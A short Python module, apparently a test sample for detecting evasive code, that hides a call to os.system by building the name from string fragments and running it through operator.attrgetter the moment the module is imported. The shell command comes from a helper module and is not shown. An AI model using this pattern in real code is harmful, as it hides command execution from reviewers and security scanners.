"""Route: ``operator.attrgetter`` with a computed name."""

import operator
import os

from _payload import shell_command, spec

ROUTE = "attrgetter"

operator.attrgetter("".join(["sys", "tem"]))(os)(shell_command(ROUTE))


def build():
    return spec(ROUTE)
